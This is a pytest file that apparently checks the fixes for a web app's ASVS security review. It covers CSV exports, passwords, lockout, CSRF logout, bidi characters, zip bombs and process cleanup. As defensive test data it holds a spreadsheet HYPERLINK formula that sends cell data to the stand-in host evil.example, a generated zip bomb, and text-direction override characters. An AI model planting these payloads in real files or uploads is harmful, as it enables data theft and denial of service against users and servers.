"""The outside ASVS level 2 review's findings (issue 18), each checked as the reviewer did."""

from __future__ import annotations

import csv
import io
from datetime import date
from pathlib import Path
from urllib.parse import quote

import pytest

from explorer.localdb import REPO_ROOT
from explorer.web.spreadsheet import FORMULA_STARTS

DEMO = REPO_ROOT / "seed" / "demo"
EVIL_AREA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def _rewritten_demo(into: Path, replace: dict[str, str]) -> Path:
    """The demo seed with each cell's text replaced as ``replace`` says (written with csv, so a
    value holding quotes and commas stays one cell)."""
    into.mkdir()
    for source in DEMO.glob("*.csv"):
        with source.open(newline="") as fh:
            rows = list(csv.reader(fh))
        body = [rows[0], *([_replaced(v, replace) for v in row] for row in rows[1:])]
        with (into / source.name).open("w", newline="") as fh:
            csv.writer(fh).writerows(body)
    return into


def _replaced(value: str, replace: dict[str, str]) -> str:
    for old, new in replace.items():
        if value == old:
            return new
    return value


# -- 1. CSV formula injection, header row included ----------------------------------------------

def _csv_urls(app, areas: list[str]) -> list[str]:
    from explorer.analytics import gaps

    urls = ["/analyst/summary.csv", "/analyst/caseloads.csv", "/analyst/analytics.csv",
            "/audit/export.csv"]
    for gap in gaps.GAPS:
        urls.append(f"/analyst/gaps/{gap.slug}/export.csv")
        urls += [f"/analyst/gaps/{gap.slug}/export.csv?la={quote(a)}" for a in areas]
    # Every CSV route the app has is in the list: a new export cannot be missed.
    routes = {r.rule.replace("<slug>", "*") for r in app.url_map.iter_rules() if r.rule.endswith(".csv")}
    covered = {u.split("?")[0] for u in urls}
    assert all(any(_matches(route, u) for u in covered) for route in routes), routes
    return urls


def _matches(route: str, url: str) -> bool:
    head, _, tail = route.partition("*")
    return url == route or (bool(tail) and url.startswith(head) and url.endswith(tail))


def test_no_csv_export_has_a_formula_in_its_header_or_cells(app, graph, make_user, login_as, tmp_path):
    from explorer.analytics import gaps
    from explorer.seed import read_seed
    from explorer.seed.loader import load

    seed = _rewritten_demo(tmp_path / "seed", {"Northmere": EVIL_AREA, "Southwick": "-2+3",
                                               "Northmere Children's Social Care": "@SUM(1,2)"})
    load(graph, read_seed(seed, today=date.today()), source="evil", progress=False)
    assert EVIL_AREA in gaps.areas(graph)
    make_user("ana", ["analyst", "management"])
    client = app.test_client()
    login_as(client, "ana")
    client.get("/audit?user=%3D1%2B1")  # an audited search whose params start a formula
    seen_evil = False
    for url in _csv_urls(app, gaps.areas(graph)):
        reply = client.get(url)
        assert reply.status_code == 200, url
        rows = list(csv.reader(io.StringIO(reply.get_data(as_text=True))))
        assert rows, url
        for row in rows:
            for value in row:
                assert not value.startswith(FORMULA_STARTS), (url, value)
                seen_evil = seen_evil or value == "'" + EVIL_AREA
    assert seen_evil  # the area's name did reach the exports, as text


# -- 8. HSTS only where it means something: over https ------------------------------------------

def test_hsts_is_sent_over_https_only(graph, config):
    from explorer import create_app

    plain = create_app({"TESTING": True, "EXPLORER_CONFIG": config})
    assert "Strict-Transport-Security" not in plain.test_client().get("/health").headers
    secure = create_app({"TESTING": True, "EXPLORER_CONFIG": config})
    secure.config["PREFERRED_URL_SCHEME"] = "https"  # the test client's scheme
    reply = secure.test_client().get("/health")
    assert reply.request.scheme == "https"
    assert reply.headers["Strict-Transport-Security"] == "max-age=31536000; includeSubDomains"
    # Behind a TLS-terminating proxy the app sees http; the proxy's X-Forwarded-Proto counts.
    proxied = create_app({"TESTING": True, "EXPLORER_CONFIG": config, "EXPLORER_PROXY_HOPS": 1})
    client = proxied.test_client()
    assert "Strict-Transport-Security" in client.get(
        "/health", headers={"X-Forwarded-Proto": "https", "X-Forwarded-For": "10.1.1.1"}).headers
    assert "Strict-Transport-Security" not in client.get(
        "/health", headers={"X-Forwarded-Proto": "http", "X-Forwarded-For": "10.1.1.1"}).headers
    for app in (plain, secure, proxied):
        app.extensions["graph"].close()


# -- 2. common passwords (ASVS 6.2.4: at least the top 3,000) and the user's own context -------


@pytest.mark.parametrize("password", ["password123456", "qwerty123456", "1q2w3e4r5t6y", "P@ssw0rd1234",
                                      "Welcome123456", "Password12345!", "iloveyou123456"])
def test_passwords_the_reviewer_found_accepted_are_refused(password):
    from explorer.accounts import passwords

    with pytest.raises(passwords.WeakPassword):
        passwords.check_strength(password, username="alice")


def test_every_common_password_long_enough_to_pass_the_length_rule_is_refused():
    from explorer.accounts import passwords

    common = passwords.common_passwords()
    assert len(common) >= 3000
    long_enough = [p for p in common if len(p) >= passwords.MIN_LENGTH]
    assert len(long_enough) > 100
    for password in long_enough:
        with pytest.raises(passwords.WeakPassword):
            passwords.check_strength(password)


@pytest.mark.parametrize(("password", "says"), [
    ("Zoe-Okafor-rules-2026", "name"), ("okaforOKAFORokafor9", "name"),
    ("explorer-kestrel-lantern-9", "this service"), ("my zoeokafor logbook", "name"),
])
def test_a_password_holding_the_users_name_or_the_services_is_refused(password, says):
    from explorer.accounts import passwords

    with pytest.raises(passwords.WeakPassword, match=says):
        passwords.check_strength(password, username="zoe.o", names=("Zoe Okafor", "Okafor"))


def test_a_strong_password_still_passes_and_the_account_pages_use_the_names(app, graph, client, make_user,
                                                                          made_users, login_as):
    from explorer.accounts import passwords, users

    passwords.check_strength("kestrel lantern 4417 orbit", username="zoe", names=("Zoe Okafor",))
    make_user("zoe", ["analyst"], display_name="Zoe Okafor", family_name="Okafor")
    login_as(client, "zoe")
    current = made_users["zoe"][0]
    reply = client.post("/account/password", data={"current": current, "new": "Okafor-kestrel-4417",
                                                    "again": "Okafor-kestrel-4417"})
    assert reply.status_code == 400 and "name" in reply.get_data(as_text=True)
    with app.app_context(), pytest.raises(users.AccountError):
        users.create(graph, username="yan", password="Zoe-Okafor-kestrel-lantern", roles=["analyst"],
                     display_name="Zoe Okafor")


# -- 4. the current-password check on /account/password counts like a failed sign-in -----------

def test_wrong_current_passwords_lock_the_account_like_failed_sign_ins_and_are_audited(
        app, graph, client, make_user, login_as):
    from explorer import audit

    _, password, _ = make_user("cal", ["chair"])
    login_as(client, "cal")
    new = "a fresh passphrase of mine 61"
    limit = app.config["LOGIN_MAX_FAILURES"]
    for n in range(limit):
        reply = client.post("/account/password", data={"current": f"guess number {n} here", "new": new,
                                                        "again": new})
        assert reply.status_code in (400, 429)
    failed = audit.search(graph, action="auth.password_change_failed")
    assert [e["username"] for e in failed] == ["cal"] * limit
    locked = audit.search(graph, action="auth.locked")
    assert len(locked) == 1 and "cal" in str(locked[0]["params"]) and locked[0]["flagged"]
    # Locked as after failed sign-ins: the right password no longer changes anything, nor signs in,
    # and the session that guessed is over.
    assert client.get("/account").status_code == 302
    other = app.test_client()
    assert other.post("/login", data={"username": "cal", "password": password}).status_code == 200



# -- 3. signing out only by POST with CSRF; the browser never drops a session the server keeps --

def _sessions(graph) -> int:
    return graph.run_autocommit("MATCH (s:Session) RETURN count(s) AS n")[0]["n"]


def _csrf_client(app):
    app.config["WTF_CSRF_ENABLED"] = True
    return app.test_client()


def test_a_get_anywhere_keeps_a_signed_in_session_and_its_cookie(app, graph, make_user, login_as):
    make_user("alice", ["analyst"])
    client = app.test_client()
    login_as(client, "alice")
    cookie = app.config["SESSION_COOKIE_NAME"]
    for path in ("/login/code", "/login", "/logout", "/account/password"):
        reply = client.get(path)  # as a link or an <img> on another site would
        assert not any(h.startswith(f"{cookie}=;") for h in reply.headers.getlist("Set-Cookie")), path
        assert client.get("/account").status_code == 200, path
    assert _sessions(graph) == 1


def test_the_code_step_is_left_by_a_post_that_ends_it_on_the_server(app, graph, make_user):
    from tests.conftest import csrf_token_in

    _, password, _ = make_user("alice", ["analyst"])
    client = _csrf_client(app)
    token = csrf_token_in(client.get("/login").get_data(as_text=True))
    client.post("/login", data={"username": "alice", "password": password, "csrf_token": token})
    assert _sessions(graph) == 1
    page = client.get("/login/code").get_data(as_text=True)
    # "Start again" is a form button that posts, with a CSRF token, to the sign-out.
    assert 'action="/logout"' in page and "Start again</button>" in page
    assert client.post("/logout").status_code == 400  # without the token: refused, nothing ends
    assert _sessions(graph) == 1
    reply = client.post("/logout", data={"csrf_token": csrf_token_in(page)})
    assert reply.status_code == 302 and reply.location.endswith("/login")
    assert _sessions(graph) == 0


def test_a_dead_cookie_at_the_code_step_is_ended_on_the_server_too(app, graph, make_user, clock):
    _, password, _ = make_user("alice", ["analyst"])
    client = app.test_client()
    client.post("/login", data={"username": "alice", "password": password})
    clock.advance(minutes=6)  # the code step has expired: the page ends it
    assert client.get("/login/code").location.endswith("/login")
    assert _sessions(graph) == 0


# -- 5. bidirectional controls: refused in seeds, neutral and isolated in pages ----------------

RLO, RLI = "\u202e", "\u2067"


@pytest.mark.parametrize("control", [chr(c) for c in (*range(0x202A, 0x202F), *range(0x2066, 0x206A))])
def test_a_seed_with_a_bidi_control_in_a_name_is_refused_with_file_line_and_column(tmp_path, graph, control):
    from explorer.seed import SeedInvalid, read_seed

    seed = _rewritten_demo(tmp_path / "seed", {"Zoë": f"Zo{control}ë", "Okafor": f"Oka{control}for"})
    with pytest.raises(SeedInvalid) as refused:
        read_seed(seed, today=date.today())
    found = {str(p) for p in refused.value.problems}
    code = f"U+{ord(control):04X}"
    assert any(p.startswith("children.csv:2:given_name:") and code in p for p in found), found
    assert any(p.startswith("practitioners.csv:") and ":family_name:" in p and code in p for p in found)
    assert graph.run_autocommit("MATCH (n) RETURN count(n) AS n")[0]["n"] == 0


def test_names_and_reasons_reach_pages_isolated_and_without_their_bidi_controls(signed_in, graph):
    from explorer import audit
    from explorer.accounts import Viewer

    # As if loaded before seeds refused them, or typed into a reason.
    graph.run_autocommit("MATCH (c:Child {id: 'C-ZOE'}) SET c.given_name = $n", n=f"Zo{RLO}ë")
    audit.record(graph, viewer=Viewer("pat", frozenset({"practitioner"}), "P-1", "pat"),
                 action="child.lookup", params={}, returned_ids=[], reason=f"visit {RLI}gnol", client="x")
    chair = signed_in("chair", ["chair"])
    page = chair.get("/children/C-ZOE").get_data(as_text=True)
    assert RLO not in page
    assert "<h1><bdi>Zo\ufffdë O&#39;Brien</bdi></h1>" in page
    boss = signed_in("boss", ["management"])
    page = boss.get("/audit").get_data(as_text=True)
    assert RLI not in page and "<bdi>visit \ufffdgnol</bdi>" in page and "<bdi>pat</bdi>" in page


# -- 6. a zip bomb is refused before it is unpacked --------------------------------------------

def _bomb(path: Path, megabytes: int = 64) -> Path:
    """A seed-shaped zip whose one file deflates about a thousand times: megabytes of one row."""
    import zipfile

    row = b"C-SAME,Ann,Lee,,2019-01-01,female,,false,none,,,,false\n" * 18_000  # ~1 MB
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as zf, \
            zf.open("seed/children.csv", "w") as out:
        out.write(b"id,given_name,family_name,former_names,date_of_birth,gender\n")
        for _ in range(megabytes):
            out.write(row)
    return path


def _bytes_under(folder: Path) -> int:
    return sum(f.stat().st_size for f in folder.rglob("*") if f.is_file()) if folder.exists() else 0


def test_a_zip_bomb_is_refused_before_much_is_written(tmp_path, client, make_user, login_as):
    from explorer.web.admin import UnsafeArchive, extract_seed

    bomb = _bomb(tmp_path / "bomb.zip")
    assert bomb.stat().st_size < 1024**2  # 64 MB inside, under one on the wire
    into = tmp_path / "unpacked"
    with pytest.raises(UnsafeArchive, match="zip bomb"):
        extract_seed(bomb, into)
    assert _bytes_under(into) < 2 * 1024**2
    make_user("ada", ["admin"])
    login_as(client, "ada")
    with bomb.open("rb") as fh:
        reply = client.post("/admin/seed", data={"archive": (fh, "bomb.zip")},
                            content_type="multipart/form-data")
    assert reply.status_code == 400 and "zip bomb" in reply.get_data(as_text=True)


def test_unpacking_counts_the_bytes_themselves_and_stops_at_what_the_zip_declared(tmp_path):
    """The directory's sizes can lie: bytes past a member's declared size stop the copy (and
    Python's zipfile also stops reading there), so the running total is what was checked."""
    import zipfile

    from explorer.web.admin import UnsafeArchive, _copy_checked

    member = zipfile.ZipInfo("seed/children.csv")
    member.file_size, member.compress_size = 3 * 1024**2, 1024**2
    written = io.BytesIO()
    with pytest.raises(UnsafeArchive, match="more than the zip declares"):
        _copy_checked(member, io.BytesIO(b"x" * (8 * 1024**2)), written, 0)
    assert len(written.getvalue()) <= 3 * 1024**2
    with pytest.raises(UnsafeArchive, match="more than the zip declares or 2 GB"):
        _copy_checked(member, io.BytesIO(b"x" * 1024**2), io.BytesIO(), 2 * 1024**3 - 10)


# -- 7. `kill -9` of a seed load: its reader processes die with it --------------------------------

def _children_of(pid: int) -> set[int]:
    found = set()
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                fields = (entry / "stat").read_text().rsplit(")", 1)[1].split()
            except OSError:
                continue
            if int(fields[1]) == pid:
                found.add(int(entry.name))
    return found


def _alive(pid: int) -> bool:
    try:
        state = (Path("/proc") / str(pid) / "stat").read_text().rsplit(")", 1)[1].split()[0]
    except OSError:
        return False
    return state != "Z"  # a zombie has ended; only its exit status waits to be collected


@pytest.mark.skipif(not Path("/proc/self/stat").exists(), reason="reads processes from /proc")
def test_kill_9_of_a_load_during_validation_leaves_no_reader_running(graph, tmp_path, neo4j_settings):
    import os
    import signal
    import subprocess
    import sys
    import time

    from explorer.seed.generate import generate
    from explorer.seed.validate import PARALLEL_FROM_BYTES
    from tests.test_loader import _cli_env

    population = tmp_path / "pop"
    generate(population, children=30_000, seed=5)
    assert sum(f.stat().st_size for f in population.glob("*.csv")) > 2 * PARALLEL_FROM_BYTES
    proc = subprocess.Popen([sys.executable, "-m", "explorer.cli", "seed", "load", str(population)],
                            env=_cli_env(neo4j_settings), stdout=subprocess.DEVNULL,
                            stderr=subprocess.DEVNULL)
    workers: set[int] = set()
    deadline = time.monotonic() + 120
    while not workers and proc.poll() is None and time.monotonic() < deadline:
        workers = _children_of(proc.pid)
        time.sleep(0.01)
    assert workers, "the load started no reader process (is the machine single-core?)"
    os.kill(proc.pid, signal.SIGKILL)
    proc.wait()
    deadline = time.monotonic() + 10
    while any(map(_alive, workers)) and time.monotonic() < deadline:
        time.sleep(0.1)
    assert not [w for w in workers if _alive(w)]
    assert graph.run_autocommit("MATCH (n) RETURN count(n) AS n")[0]["n"] == 0  # killed in validation


def test_a_code_step_left_half_done_is_ended_when_its_user_next_signs_in(app, graph, make_user, login_as,
                                                                        clock):
    _, password, _ = make_user("alice", ["analyst"])
    abandoned = app.test_client()
    abandoned.post("/login", data={"username": "alice", "password": password})  # then the tab closes
    clock.advance(minutes=6)
    login_as(app.test_client(), "alice")
    assert _sessions(graph) == 1  # the new one only
